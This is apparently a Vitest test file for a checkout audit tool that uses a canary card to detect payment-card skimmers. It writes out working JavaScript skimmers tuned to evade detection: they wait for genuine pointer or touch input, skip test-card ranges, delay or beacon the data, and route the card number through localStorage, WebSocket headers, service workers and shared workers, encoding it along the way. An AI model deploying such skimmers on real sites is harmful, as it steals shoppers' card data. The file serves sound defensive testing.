import { beforeAll, describe, expect, it } from 'vitest';
import { auditPage, type AuditRun } from '../../src/audit/audit.js';
import { freshCanaryCard } from '../../src/audit/canary/card.js';
import { compare } from '../../src/audit/inventory/compare.js';
import type { Browser } from '../../src/audit/browser/driver.js';
import type { Inventory } from '../../src/audit/inventory/schema.js';
import { updatedInventory } from '../../src/audit/inventory/update.js';
import { cleanShop, STRICT_CSP, TOKENIZER, type ShopScript } from './shop.js';
import { received, shopAsShopper } from './shopper.js';
import { browserAndSite, type Site } from './site.js';

let browser: Browser;
let site: Site;

browserAndSite((started, shop) => ([browser, site] = [started, shop]));

/** The digits the shopper typed, as a skimmer reads them. */
const DIGITS = `const digits = () => document.querySelector('card-tokenizer input[autocomplete="cc-number"]').value.replace(/\\D/g, '');`;

/** A skimmer's script, in a block of its own: several share the page. */
const skimmer = (body: string) => `{\n${DIGITS}\n${body}\n}`;

/** The clean shop with `skimmers`, its payment leading to `/pay`, whose page runs `/thanks.js`. */
function skimmedShop(skimmers: ShopScript[], thanks = '') {
  cleanShop(site, skimmers);
  // A shop that runs workers names them: a worker's URL is a Trusted Types sink.
  site.headers['Content-Security-Policy'] =
    `${STRICT_CSP.replace('trusted-types lit-html', 'trusted-types lit-html offline')}; worker-src 'self'`;
  site.files.set(
    '/pay',
    '<!doctype html><title>Thank you</title><script src="/thanks.js"></script>',
  );
  site.files.set('/thanks.js', thanks);
}

/** Audits the checkout with the canary. */
const audit = (mobile = false) =>
  auditPage(browser, {
    url: `${site.origin}/checkout`,
    canary: true,
    integrityFile: 'dist/integrity.json',
    ...(mobile && { profile: { as: 'mobile' as const } }),
  });

const leaks = (run: AuditRun) =>
  run.canary!.leaks.map(
    ({ where, message }) =>
      `${where}: ${message.replace("the canary's card left the element: ", '')}`,
  );

/** Skimmers written to get past a canary that types fast, never moves a pointer, and leaves at once. */
const SKIMMERS: [name: string, path: string, body: string, proof: RegExp, caught: RegExp][] = [
  [
    'waits for a trusted pointer moving over the page',
    '/reviews.js',
    skimmer(`let moves = 0;
addEventListener('pointermove', (event) => { if (event.isTrusted && event.pointerType === 'mouse') moves++; }, true);
document.addEventListener('submit', () => {
  if (moves > 5) fetch('/pointer', { method: 'POST', body: digits() }).catch(() => {});
}, { capture: true, once: true });`),
    /^\/pointer: card number, plain$/,
    /^request POST .*\/pointer: card number, plain$/,
  ],
  [
    'ignores the published test ranges',
    '/loyalty.js',
    skimmer(`const TEST_RANGES = ['497010', '411111', '424242', '400000', '401288', '555555', '510510', '222300', '513100', '497355'];
document.addEventListener('submit', () => {
  const number = digits();
  if (TEST_RANGES.some((range) => number.startsWith(range))) return;
  new Image().src = '/ranges.gif?h=' + [...number].map((digit) => digit.charCodeAt(0).toString(16)).join('');
}, { capture: true, once: true });`),
    /^\/ranges\.gif: card number, hex$/,
    /^request GET .*\/ranges\.gif\?h=\d+: card number, hex$/,
  ],
  [
    'sends the number 20 s after it was typed',
    '/chat.js',
    skimmer(`let timer;
document.addEventListener('input', () => {
  const number = digits();
  clearTimeout(timer);
  if (number.length >= 15) timer = setTimeout(() => fetch('/later', { method: 'POST', body: [...number].join('·') }).catch(() => {}), 20000);
}, true);`),
    /^\/later: card number, a separator between every digit$/,
    /^request POST .*\/later: card number, a separator between every digit$/,
  ],
  [
    'sends the number by sendBeacon when the page is left',
    '/session.js',
    skimmer(`let kept = '';
document.addEventListener('input', () => { kept = digits(); }, true);
addEventListener('pagehide', () => { if (kept) navigator.sendBeacon('/bye', kept.replace(/(\\d{4})(?=\\d)/g, '$1-')); });`),
    /^\/bye: card number, with separators$/,
    /^request POST .*\/bye: card number, with separators$/,
  ],
  [
    'puts the number in storage for the next page of the shop to send',
    '/preferences.js',
    skimmer(
      `document.addEventListener('submit', () => { localStorage.pref = btoa([...digits()].reverse().join('')); }, true);`,
    ),
    /^\/order: base64 of card number, reversed$/,
    /^request POST .*\/order: base64 of card number, reversed$/,
  ],
  [
    'carries the number in a header of a request recorded in part (a WebSocket handshake)',
    '/live.js',
    skimmer(`document.addEventListener('submit', () => {
  new WebSocket(location.origin.replace('http', 'ws') + '/live', ['v1', 'c' + digits()]);
}, { capture: true, once: true });`),
    /^\/live: card number, plain$/,
    /^WebSocket handshake to ws:.*\/live: card number, plain$/,
  ],
  [
    'waits for a trusted touch (phones only)',
    '/mobile.js',
    skimmer(`let touches = 0;
addEventListener('touchstart', (event) => { if (event.isTrusted) touches++; }, true);
document.addEventListener('submit', () => {
  if (touches > 2) fetch('/touch', { method: 'POST', body: digits() }).catch(() => {});
}, { capture: true, once: true });`),
    /^\/touch: card number, plain$/,
    /^request POST .*\/touch: card number, plain$/,
  ],
];
/** The next page's script: sends what the checkout left in storage, and leaves no trace of it. */
const THANKS = `const pref = localStorage.getItem('pref');
if (pref) { localStorage.removeItem('pref'); fetch('/order', { method: 'POST', body: JSON.stringify({ ref: pref }) }); }`;
const TOUCH = SKIMMERS.length - 1;
const desktopSkimmers = SKIMMERS.slice(0, TOUCH);

describe('card-tokenizer-audit --canary, skimmers written against a canary', () => {
  let desktop: AuditRun;
  let mobile: AuditRun;
  let shopperSent: string[];
  let phoneSent: string[];
  let testCardSent: string[];

  beforeAll(async () => {
    skimmedShop(
      SKIMMERS.map(([, path, body]) => ({ path, body })),
      THANKS,
    );
    const card = freshCanaryCard();
    site.requests.splice(0);
    await shopAsShopper(browser, site, card);
    shopperSent = received(site, card);
    site.requests.splice(0);
    await shopAsShopper(browser, site, card, { mobile: true });
    phoneSent = received(site, card);
    site.requests.splice(0);
    await shopAsShopper(browser, site, '4970107111111119');
    testCardSent = received(site, '4970107111111119');
    desktop = await audit();
    mobile = await audit(true);
  }, 300_000);

  it.each(desktopSkimmers)(
    'proof: a skimmer that %s sends the card from a shopper’s browser',
    (_name, _path, _body, proof) => {
      expect(
        shopperSent.some((sent) => proof.test(sent)),
        shopperSent.join('\n'),
      ).toBe(true);
    },
  );

  it('proof: the skimmer of phones sends the card from a phone’s taps, not a pointer’s', () => {
    const proof = SKIMMERS[TOUCH][3];
    expect(
      phoneSent.some((sent) => proof.test(sent)),
      phoneSent.join('\n'),
    ).toBe(true);
    expect(shopperSent.some((sent) => proof.test(sent))).toBe(false);
  });

  it('proof: the skimmer of test ranges stays still for a published test card', () => {
    expect(testCardSent.some((sent) => SKIMMERS[1][3].test(sent))).toBe(false);
  });

  it.each(desktopSkimmers)('catches a skimmer that %s', (_name, _path, _body, _proof, caught) => {
    expect(
      leaks(desktop).some((leak) => caught.test(leak)),
      leaks(desktop).join('\n'),
    ).toBe(true);
  });

  it('catches the skimmer of phones with --as mobile, tapping', () => {
    expect(
      leaks(mobile).some((leak) => SKIMMERS[TOUCH][4].test(leak)),
      leaks(mobile).join('\n'),
    ).toBe(true);
  });

  it('still answers the element’s request alone, and leaves from the page the payment led to', () => {
    expect(desktop.canary!.tokenizationRequest).toBe(`${TOKENIZER}/tokenize`);
    expect(desktop.canary!.leftFrom).toBe(`${site.origin}/pay`);
  });
});

describe('card-tokenizer-audit --canary, a service worker of an approved script', () => {
  const SERVICE_WORKER = `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  if (event.request.method !== 'POST') return;
  event.respondWith(event.request.clone().text().then((body) => {
    if (body.includes('cardNumber=')) fetch('/sw-sync', { method: 'POST', body: btoa(body) }).catch(() => {});
    return fetch(event.request);
  }));
});`;

  it('records the worker, and catches it reading the element’s own post', async () => {
    const register = `const policy = trustedTypes.createPolicy('offline', { createScriptURL: (url) => url });
navigator.serviceWorker.register(policy.createScriptURL('/sw.js'));`;
    skimmedShop([{ path: '/offline.js', body: register }]);
    site.files.set('/sw.js', SERVICE_WORKER);
    const card = freshCanaryCard();
    site.requests.splice(0);
    await shopAsShopper(browser, site, card, {
      ready: (page) => page.waitForFunction(() => navigator.serviceWorker.controller),
    });
    expect(received(site, card)).toContain('/sw-sync: base64 of card number, plain');

    const run = await audit();
    expect(run.evidence.workers).toEqual([
      expect.objectContaining({
        type: 'service',
        url: '/sw.js',
        scope: '/',
        registeredBy: '/offline.js',
      }),
    ]);
    expect(leaks(run)).toContainEqual(
      expect.stringMatching(
        /^request POST .*\/sw-sync from a service worker: base64 of card number, plain$/,
      ),
    );
    expect(run.canary!.tokenizationRequest).toBe(`${TOKENIZER}/tokenize`);
  });
});

describe('card-tokenizer-audit --canary, shared and dedicated workers', () => {
  it('records them with the script that started them, and watches a shared worker’s requests', async () => {
    const start = `const policy = trustedTypes.createPolicy('offline', { createScriptURL: (url) => url });
const shared = new SharedWorker(policy.createScriptURL('/shared.js'));
new Worker(policy.createScriptURL('/dedicated.js'));
document.addEventListener('submit', () => {
  const number = document.querySelector('card-tokenizer input[autocomplete="cc-number"]').value.replace(/\\D/g, '');
  shared.port.postMessage(btoa(number));
}, { capture: true, once: true });`;
    skimmedShop([{ path: '/sync.js', body: start }]);
    // The worker decodes what the page hands it, and sends the digits as a number of its own.
    site.files.set(
      '/shared.js',
      `onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => fetch('/shared-sync?v=' + BigInt(atob(data)).toString(16)); };`,
    );
    site.files.set('/dedicated.js', `postMessage('ready');`);
    const card = freshCanaryCard();
    site.requests.splice(0);
    await shopAsShopper(browser, site, card);
    expect(received(site, card)).toContain('/shared-sync: card number, hex');

    const run = await audit();
    expect(run.evidence.workers).toEqual([
      expect.objectContaining({
        type: 'dedicated',
        url: '/dedicated.js',
        registeredBy: '/sync.js',
      }),
      expect.objectContaining({ type: 'shared', url: '/shared.js', registeredBy: '/sync.js' }),
    ]);
    expect(leaks(run)).toContainEqual(
      expect.stringMatching(
        /^request GET .*\/shared-sync\?v=[0-9a-f]+ from the shared worker .*\/shared\.js: card number, hex$/,
      ),
    );
  });
});

describe('card-tokenizer-audit, the tokenization origin approved in the inventory', () => {
  it('fails when a script points the element at a collector that forwards to the service', async () => {
    const collector = `document.querySelector('card-tokenizer').setAttribute('card-registration-url', location.origin + '/collector/tokenize');`;
    skimmedShop([{ path: '/checkout-ui.js', body: collector }]);
    site.files.set('/collector/tokenize', 'data=forwarded-to-the-service');
    const card = freshCanaryCard();
    site.requests.splice(0);
    await shopAsShopper(browser, site, card);
    expect(received(site, card)).toContain('/collector/tokenize: card number, plain');

    const run = await audit();
    // The collector's post is the element's: no leak, but an origin the inventory never approved.
    expect(run.canary!.tokenizationRequest).toBe(`${site.origin}/collector/tokenize`);
    const inventory: Inventory = {
      ...updatedInventory(run.evidence, undefined, ''),
      tokenizationOrigins: [{ origin: TOKENIZER, approvedBy: 'Security lead' }],
    };
    expect(compare(run.evidence, inventory)).toContainEqual(
      expect.objectContaining({ kind: 'tokenization-origin-added', where: site.origin }),
    );
  });
});
